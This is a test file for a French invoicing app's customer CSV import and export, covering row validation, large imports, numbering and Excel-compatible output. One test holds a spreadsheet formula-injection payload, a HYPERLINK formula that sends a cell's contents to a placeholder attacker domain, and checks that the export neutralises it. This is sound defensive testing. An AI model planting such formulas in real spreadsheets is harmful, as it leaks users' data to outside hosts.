import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../helpers/server';
import { registered } from '../helpers/clients';
import { BOM, parseCsv } from '../../src/shared/csv';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.close());

const FILE = [
  'Nom;Type;E-mail;SIREN/SIRET;Ville;Délai de paiement;Couleur préférée',
  'Danone;entreprise;compta@danone.example;552 032 534;Paris;45;bleu',
  'Marie Curie;particulier;marie@exemple.fr;;Varsovie;30;',
  ';entreprise;sans-nom@exemple.fr;;Lyon;30;',
  'Mauvais SIREN;entreprise;;552032535;Nice;trente;',
  'Atelier Bleu;;atelier@exemple.fr;;Nantes;;',
].join('\r\n');

const count = async (session: Awaited<ReturnType<typeof registered>>['session']) =>
  (await session.rest('GET', '/api/customers?archived=include')).body.total;

describe('customers CSV import and export', () => {
  it('a dry run lists every rejected row and why, and writes nothing; the import then creates the valid rows', async () => {
    const { session } = await registered(server.url);
    const dry = await session.rest('POST', '/api/customers/import', { csv: BOM + FILE, dry_run: true });
    expect(dry.status).toBe(200);
    expect(dry.body.data).toMatchObject({ total_rows: 5, valid: 3, created: 0, ignored_columns: ['Couleur préférée'] });
    expect(dry.body.messages).toBe('3 clients prêts à importer, 2 lignes rejetées');
    expect(dry.body.data.rejected).toEqual([
      { line: 4, messages: ['Le nom du client est obligatoire'] },
      {
        line: 5,
        messages: ['SIREN invalide : la clé de contrôle ne correspond pas', 'Délai de paiement : un nombre de jours est attendu'],
      },
    ]);
    expect(await count(session)).toBe(0);

    const real = await session.trpc().customers.import.mutate({ csv: FILE, dry_run: false });
    expect(real).toMatchObject({ messages: '3 clients importés', data: { created: 3 } });
    const list = (await session.rest('GET', '/api/customers?sort_by=number')).body.data;
    expect(list.map((c: { number: string; name: string }) => `${c.number} ${c.name}`)).toEqual([
      'CL-00001 Danone',
      'CL-00002 Marie Curie',
      'CL-00003 Atelier Bleu',
    ]);
    expect(list[0]).toMatchObject({ maturity: 45, business_id: '552032534', address: { city: 'Paris' } });
    expect(list[1].type).toBe('individual');
    expect((await session.rest('GET', '/api/search?q=curie')).body.total).toBe(1);
  });

  it('reads 10 000 rows with broken lines and unreadable characters: every bad row is named, the rest imported at once', async () => {
    const { session } = await registered(server.url);
    const lines = ['Nom;E-mail;Ville'];
    for (let i = 1; i <= 10_000; i++) {
      if (i % 1000 === 0)
        lines.push(`Client ${i};client${i}@exemple.fr;Paris;en trop`); // a field too many
      else if (i % 1000 === 500)
        lines.push(`Soci\uFFFDt\uFFFD ${i};;Lyon`); // Windows-1252 read as UTF-8
      else lines.push(`Client ${i};client${i}@exemple.fr;Paris`);
    }
    const started = performance.now();
    const answer = await session.rest('POST', '/api/customers/import', { csv: lines.join('\n'), dry_run: false });
    const ms = performance.now() - started;
    expect(answer.status).toBe(200);
    expect(answer.body.data).toMatchObject({ total_rows: 10_000, valid: 9_980, created: 9_980 });
    expect(answer.body.data.rejected).toHaveLength(20);
    expect(answer.body.data.rejected[0]).toEqual({ line: 501, messages: ['Caractères illisibles : enregistrez le fichier en UTF-8'] });
    expect(answer.body.data.rejected[1]).toEqual({ line: 1001, messages: ['4 champs pour 3 colonnes : un point-virgule en trop ?'] });
    expect(await count(session)).toBe(9_980);
    // Numbered in the file's order (Client 9999 is the last of the 9 980 valid rows), and found by its name and its number.
    const found = (await session.rest('GET', '/api/search?q=Client 9999')).body.data;
    expect(found).toEqual([expect.objectContaining({ kind: 'customer', title: 'Client 9999', subtitle: 'CL-09980' })]);
    expect((await session.rest('GET', '/api/search?q=CL-09980')).body.total).toBe(1);
    // The series goes on after the last one imported: no number taken twice, none skipped.
    const next = await session.rest('POST', '/api/customers', { name: 'Après import' });
    expect(next.body.data.number).toBe('CL-09981');
    console.log(`import of 10 000 rows: ${Math.round(ms)} ms`);
  });

  it('refuses a file without a Nom column, or too long, and writes nothing', async () => {
    const { session } = await registered(server.url);
    const noName = await session.rest('POST', '/api/customers/import', { csv: 'Client;Ville\nA;B', dry_run: false });
    expect(noName.status).toBe(400);
    expect(noName.body.messages).toContain('La colonne « Nom » est introuvable');
    const tooMany = await session.rest('POST', '/api/customers/import', {
      csv: ['Nom', ...Array.from({ length: 10_001 }, (_, i) => `C${i}`)].join('\n'),
      dry_run: false,
    });
    expect(tooMany.status).toBe(400);
    expect(await count(session)).toBe(0);
  });

  it('exports a CSV French Excel opens (BOM, ;, CRLF) that imports back identically elsewhere', async () => {
    const { session } = await registered(server.url);
    await session.rest('POST', '/api/customers/import', { csv: FILE, dry_run: false });
    const exported = (await session.rest('GET', '/api/customers/export', undefined, { accept: 'application/json' })).body;
    expect(exported.filename).toMatch(/^clients-\d{4}-\d\d-\d\d\.csv$/);
    expect(exported.content.startsWith(BOM)).toBe(true);
    expect(exported.content).toContain('\r\n');
    expect(parseCsv(exported.content).header[0]).toBe('Numéro');

    const { session: other } = await registered(server.url);
    const again = await other.rest('POST', '/api/customers/import', { csv: exported.content, dry_run: false });
    expect(again.body.data).toMatchObject({ created: 3, rejected: [] });
    const strip = (list: Record<string, unknown>[]) => list.map(({ id: _i, created_at: _c, updated_at: _u, ...rest }) => rest);
    expect(strip((await other.rest('GET', '/api/customers?sort_by=number')).body.data)).toEqual(
      strip((await session.rest('GET', '/api/customers?sort_by=number')).body.data),
    );
  });

  it('exports a formula-looking name as text, and imports it back as it was, saying so', async () => {
    const { session } = await registered(server.url);
    const hostile = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';
    const created = await session.rest('POST', '/api/customers', { name: hostile, type: 'company', email: 'evil@exemple.fr' });
    expect(created.status).toBe(201);
    // The file itself, as curl saves it: formula cells still neutralised.
    const exported = (await session.rest('GET', '/api/customers/export')).body as string;
    const [row] = parseCsv(exported).rows;
    expect(row?.cells).toContain(`'${hostile}`);
    expect(exported).not.toMatch(/[;\n]=HYPERLINK/);

    const { session: other } = await registered(server.url);
    const report = await other.rest('POST', '/api/customers/import', { csv: exported, dry_run: false });
    expect(report.body.data.created).toBe(1);
    expect(report.body.data.changed).toEqual([
      { line: 2, column: 'Nom', message: expect.stringContaining('apostrophe de protection retirée') },
    ]);
    expect((await other.rest('GET', '/api/customers')).body.data[0].name).toBe(hostile);

    const raw = await other.rest('POST', '/api/customers/import', { csv: 'Nom;Ville\r\n@SUM(1+1);Lyon\r\n', dry_run: true });
    expect(raw.body.data.changed).toEqual([{ line: 2, column: 'Nom', message: expect.stringContaining('gardé comme texte') }]);
  });

  it('answers a real CSV file (curl -o clients.csv), JSON only when asked, with leading zeros Excel keeps', async () => {
    const { session } = await registered(server.url);
    const key = await session.rest('POST', '/api/api-keys', { name: 'Export', scope: 'read' });
    expect(key.status).toBe(201);
    const created = await session.rest('POST', '/api/customers', {
      name: 'Boulangerie de l’Ain',
      type: 'company',
      email: 'ain@exemple.fr',
      phone: '04 74 00 00 00',
      address: { line1: '1 rue du Four', postal_code: '01000', city: 'Bourg-en-Bresse', country: 'FR' },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    await session.rest('POST', '/api/customers', { name: '=1+1', type: 'company', email: 'formule@exemple.fr' });

    // Plain fetch with the key only, as curl would: the file, named, in UTF-8 CSV.
    const response = await fetch(`${server.url}/api/customers/export`, { headers: { authorization: `Bearer ${key.body.data.secret}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="clients-\d{4}-\d\d-\d\d\.csv"/);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const csv = bytes.toString('utf8');
    // Excel reads `="01000"` as the text 01000: the cell is written so, quoted for the CSV.
    expect(csv).toContain(';"=""01000""";');
    const { header, rows } = parseCsv(csv);
    const row = rows.find((r) => r.cells.includes('Boulangerie de l’Ain'))?.cells ?? [];
    expect(row[header.indexOf('Code postal')]).toBe('="01000"');
    expect(row[header.indexOf('Téléphone')]).toBe('="04 74 00 00 00"');
    // Formula neutralising is unchanged: a name that starts like a formula gets the apostrophe.
    expect(rows.some((r) => r.cells.includes("'=1+1"))).toBe(true);
    expect(csv).not.toMatch(/[;\n]=1\+1/);

    // Any Accept but JSON gets the file; `Accept: application/json` gets the object, as before.
    const star = await session.fetch(`${server.url}/api/customers/export`, { headers: { accept: 'text/csv, */*' } });
    expect(star.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const json = await session.rest('GET', '/api/customers/export', undefined, { accept: 'application/json' });
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    expect(json.body.filename).toMatch(/^clients-.*\.csv$/);
    expect(json.body.content).toBe(csv);
    // The tRPC door (the app's own) still answers the object.
    expect((await session.trpc().customers.export.query()).content).toBe(csv);

    // The file imports back elsewhere with its postal code intact.
    const { session: other } = await registered(server.url);
    const again = await other.rest('POST', '/api/customers/import', { csv, dry_run: false });
    expect(again.body.data).toMatchObject({ created: 2, rejected: [] });
    const back = (await other.rest('GET', '/api/customers')).body.data.find((c: { name: string }) => c.name === 'Boulangerie de l’Ain');
    expect(back.address.postal_code).toBe('01000');
    expect(back.phone).toBe('04 74 00 00 00');
  });

  it('answers the items and the expenses as CSV files too (item code 00042 kept)', async () => {
    const { session } = await registered(server.url);
    const item = await session.rest('POST', '/api/items', { code: '00042', name: 'Vis inox', unit_price: 1.5 });
    expect(item.status, JSON.stringify(item.body)).toBe(201);
    const items = await session.fetch(`${server.url}/api/items/export`);
    expect(items.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(items.headers.get('content-disposition')).toMatch(/filename="articles-/);
    expect(await items.text()).toContain('\r\n"=""00042""";Vis inox;');
    const expenses = await session.fetch(`${server.url}/api/expenses/export`);
    expect(expenses.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(expenses.headers.get('content-disposition')).toMatch(/filename="depenses-/);
  });
});
